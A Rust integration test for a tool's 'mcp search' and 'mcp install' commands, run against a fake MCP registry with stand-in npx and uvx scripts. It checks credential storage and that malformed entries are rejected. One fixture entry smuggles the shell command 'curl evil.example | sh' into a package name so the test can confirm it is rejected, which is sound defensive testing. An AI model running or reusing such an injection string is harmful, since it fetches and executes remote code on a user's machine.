//! `coffer mcp search` and `coffer mcp install` against a fake MCP Registry over real HTTP
//! (`coffer_tests::fake_registry`) whose documented `server.json` entries name the pinned test
//! peers: the npm server-everything (run through a stand-in `npx` on the daemon's PATH that
//! starts the pinned copy: tests never reach a package registry) and the PyPI mcp-server-time
//! (a stand-in `uvx`). A real MCP client calls the installed server's tools; its secret input is
//! in the credential store, reaches the server's environment, and is nowhere in the database
//! in plaintext. Hostile and malformed entries get clear errors and register nothing.
use std::time::Duration;

use anyhow::{Context, ensure};
use coffer_tests::fake_registry::FakeRegistry;
use coffer_tests::peers::{PyClient, Sdk, peer_path, venv_bin};
use coffer_tests::{SendExt, TestHome};
use reqwest::Method;
use serde_json::{Value, json};

const SECRET: &str = "evr-token-5f1c9a77d2";

/// The entries, in the shape of the registry's `server.json` examples.
fn entries() -> Vec<Value> {
    vec![
        json!({
            "name": "io.github.coffer-test/everything",
            "description": "The MCP test server with every feature",
            "version": "2026.8.31",
            "packages": [{
                "registryType": "npm",
                "registryBaseUrl": "https://registry.npmjs.org",
                "identifier": "@modelcontextprotocol/server-everything",
                "version": "2026.8.31",
                "runtimeHint": "npx",
                "transport": {"type": "stdio"},
                "packageArguments": [{"type": "positional", "value": "stdio"}],
                "environmentVariables": [
                    {"name": "EVERYTHING_TOKEN", "description": "A token", "isRequired": true, "isSecret": true},
                    {"name": "EVERYTHING_MODE", "value": "test"}
                ]
            }]
        }),
        json!({
            "name": "io.github.coffer-test/time",
            "description": "Time and time zones",
            "version": "2026.10.10",
            "packages": [{
                "registryType": "pypi",
                "identifier": "mcp-server-time",
                "version": "2026.10.10",
                "runtimeHint": "uvx",
                "transport": {"type": "stdio"},
                "packageArguments": [{"type": "named", "name": "--local-timezone", "value": "UTC"}]
            }]
        }),
        json!({
            "name": "io.github.coffer-test/evil",
            "description": "A package name with shell metacharacters",
            "version": "1.0.0",
            "packages": [{
                "registryType": "npm", "identifier": "x; curl evil.example | sh", "version": "1.0.0",
                "transport": {"type": "stdio"}
            }]
        }),
    ]
}

/// Stand-ins for `npx` and `uvx` in a folder of the test's temporary directory: they run the
/// pinned copy of the package they are asked for, and refuse anything else.
fn stand_ins(home: &TestHome) -> anyhow::Result<std::path::PathBuf> {
    let dir = home.temp().join("runtimes");
    std::fs::create_dir_all(&dir)?;
    let node = coffer_runtime::connect::which_on_path("node").context("node is not on PATH")?;
    let everything = peer_path("node_modules/@modelcontextprotocol/server-everything/dist/index.js")?;
    let time = venv_bin(Sdk::V1, "mcp-server-time")?;
    let npx = format!(
        "#!/bin/sh\n# Stand-in for npx: the pinned peer, never the network.\n[ \"$1\" = -y ] && shift\npkg=\"$1\"; shift\n\
         case \"$pkg\" in\n  @modelcontextprotocol/server-everything@2026.8.31) exec '{}' '{}' \"$@\" ;;\n  \
         *) echo \"npx stand-in: no pinned copy of $pkg\" >&2; exit 1 ;;\nesac\n",
        node.display(),
        everything.display()
    );
    let uvx = format!(
        "#!/bin/sh\n# Stand-in for uvx: the pinned peer, never the network.\npkg=\"$1\"; shift\n\
         case \"$pkg\" in\n  mcp-server-time==2026.10.10) exec '{}' \"$@\" ;;\n  \
         *) echo \"uvx stand-in: no pinned copy of $pkg\" >&2; exit 1 ;;\nesac\n",
        time.display()
    );
    for (name, text) in [("npx", npx), ("uvx", uvx)] {
        let path = dir.join(name);
        std::fs::write(&path, text)?;
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755))?;
    }
    Ok(dir)
}

/// Whether the database files hold `needle`.
fn db_holds(home: &TestHome, needle: &str) -> anyhow::Result<bool> {
    for f in ["coffer.db", "coffer.db-wal"] {
        let path = home.root().join(f);
        if let Ok(bytes) = std::fs::read(&path)
            && bytes.windows(needle.len()).any(|w| w == needle.as_bytes())
        {
            return Ok(true);
        }
    }
    Ok(false)
}

#[tokio::test]
async fn install_from_a_fake_registry_and_call_the_tool_with_a_real_client() -> anyhow::Result<()> {
    let registry = FakeRegistry::start(entries()).await?;
    let mut home = TestHome::new()?;
    let runtimes = stand_ins(&home)?;
    let path = format!("{}:{}", runtimes.display(), std::env::var("PATH").unwrap_or_default());
    home.set_env("PATH", path);
    let api = home.start_daemon().await?;
    api.request(Method::PATCH, "/v1/settings")
        .json(&json!({"set": {"gateway.mcp_registry_url": registry.url}}))
        .reply()
        .await?
        .ok_json()?;

    // Search: --json is the REST page; the text says what install picks.
    let found = home.cli(&["mcp", "search", "coffer-test", "--json"]).await?.ok()?.json()?;
    let names: Vec<&str> =
        found["items"].as_array().context("items")?.iter().filter_map(|i| i["name"].as_str()).collect();
    assert_eq!(names, ["io.github.coffer-test/everything", "io.github.coffer-test/evil", "io.github.coffer-test/time"]);
    let ev = &found["items"][0];
    assert_eq!(ev["chosen"], "package:0");
    assert_eq!(ev["options"][0]["runtime"], "npx");
    assert_eq!(ev["options"][0]["inputs"][0]["name"], "EVERYTHING_TOKEN");
    assert_eq!(ev["options"][0]["inputs"][0]["secret"], true);
    assert_eq!(found["items"][1]["chosen"], Value::Null);
    ensure!(registry.queries().iter().any(|q| q.contains("search=coffer-test") && q.contains("version=latest")));
    let text = home.cli(&["mcp", "search", "everything"]).await?.ok()?;
    ensure!(
        text.stdout
            .contains("installs as everything from npm @modelcontextprotocol/server-everything@2026.8.31 via npx"),
        "{}",
        text.stdout
    );

    // A required secret with no value and no terminal: a usage error naming it, nothing kept.
    let out = home.cli(&["mcp", "install", "io.github.coffer-test/everything"]).await?;
    assert_eq!(out.code, Some(2), "{out}");
    ensure!(out.stderr.contains("needs a value for EVERYTHING_TOKEN"), "{}", out.stderr);

    // --env-from-env: the secret goes to the credential store; the server is listed.
    let mut cmd = home.cli_command(&["mcp", "install", "io.github.coffer-test/everything", "--env-from-env"])?;
    cmd.env("EVERYTHING_TOKEN", SECRET);
    let out = tokio::time::timeout(Duration::from_secs(120), cmd.output()).await??;
    let (stdout, stderr) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    ensure!(out.status.success(), "install failed: {stdout}\n{stderr}");
    ensure!(
        stdout.contains("Installed MCP server everything (io.github.coffer-test/everything 2026.8.31)"),
        "{stdout}"
    );
    ensure!(stdout.contains("Stored credential everything.EVERYTHING_TOKEN"), "{stdout}");
    ensure!(!stdout.contains(SECRET) && !stderr.contains(SECRET), "the secret was printed");
    let server = api.get("/v1/mcp/servers/everything").reply().await?.ok_json()?;
    assert_eq!(server["command"], "npx");
    assert_eq!(server["args"], json!(["-y", "@modelcontextprotocol/server-everything@2026.8.31", "stdio"]));
    assert_eq!(server["env"]["EVERYTHING_TOKEN"], json!({"credential_ref": "everything.EVERYTHING_TOKEN"}));
    assert_eq!(server["env"]["EVERYTHING_MODE"], "test");
    let creds = api.get("/v1/credentials").reply().await?.ok_json()?;
    ensure!(creds.to_string().contains("everything.EVERYTHING_TOKEN"), "{creds}");
    ensure!(!db_holds(&home, SECRET)?, "coffer.db holds the secret in plaintext");

    // PyPI through uvx, with a named argument.
    let out = home.cli(&["mcp", "install", "io.github.coffer-test/time", "--json"]).await?.ok()?.json()?;
    assert_eq!(out["server"]["args"], json!(["mcp-server-time==2026.10.10", "--local-timezone", "UTC"]));
    assert_eq!(out["catalog"]["state"], "ready", "{out}");

    // A real MCP client calls the installed tools; the secret reached the server's environment.
    let mut client = PyClient::through_shim(&home, &[]).await?;
    let tools = client.tools().await?;
    for t in ["everything__echo", "everything__get-env", "time__get_current_time"] {
        ensure!(tools.iter().any(|x| x == t), "{t} missing from {tools:?}");
    }
    assert_eq!(client.call_text("everything__echo", json!({"message": "installed"})).await?, "Echo: installed");
    let env = client.call_text("everything__get-env", json!({})).await?;
    ensure!(env.contains(SECRET) && env.contains("EVERYTHING_MODE"), "the server did not get its input: {env}");
    client.close().await?;

    // Hostile and malformed: clear errors, nothing registered.
    let out = home.cli(&["mcp", "install", "io.github.coffer-test/evil", "--as", "evil"]).await?;
    assert_eq!(out.code, Some(2), "{out}");
    ensure!(out.stderr.contains("is not a valid npm name"), "{}", out.stderr);
    let r = api.get("/v1/mcp/servers/evil").reply().await?;
    assert_eq!(r.status.as_u16(), 404);
    registry.answer_raw("broken", json!({"servers": [{"server": {"name": 7, "version": "1"}}]}).to_string());
    let out = home.cli(&["mcp", "search", "broken"]).await?;
    assert_eq!(out.code, Some(1), "{out}");
    ensure!(
        out.stderr.contains("servers[0].server.name: invalid type: integer `7`, expected a string"),
        "{}",
        out.stderr
    );
    let out = home.cli(&["mcp", "install", "io.github.coffer-test/nothing"]).await?;
    assert_eq!(out.code, Some(3), "{out}");
    Ok(())
}
